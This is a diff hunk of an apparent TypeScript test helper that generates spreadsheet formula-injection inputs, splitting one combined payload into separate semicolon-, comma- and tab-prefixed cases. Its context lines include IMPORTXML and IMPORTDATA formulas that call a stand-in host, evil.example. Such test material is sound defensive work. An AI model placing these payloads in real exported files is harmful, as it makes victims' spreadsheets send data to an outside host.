@@ -40,7 +40,9 @@ const FORMS: readonly Words[] = [
   (n) => `";IMPORTXML("http://evil.example/${n}";"//a"))&("`,
   (n) => `'!A1;IMPORTDATA("http://evil.example/${n}");'`,
   (n) => `x${n}\n=1+1`,
-  (n) => `a,=1+${n};=1+1\t=1+1`,
+  (n) => `a;=1+${n}`,
+  (n) => `a,=1+${n}`,
+  (n) => `a\t=1+${n}`,
 ];
 const HOSTILE: Words = (number) => FORMS[number % FORMS.length]!(number);
 /** What spreadsheet programs take for the beginning of a formula. */
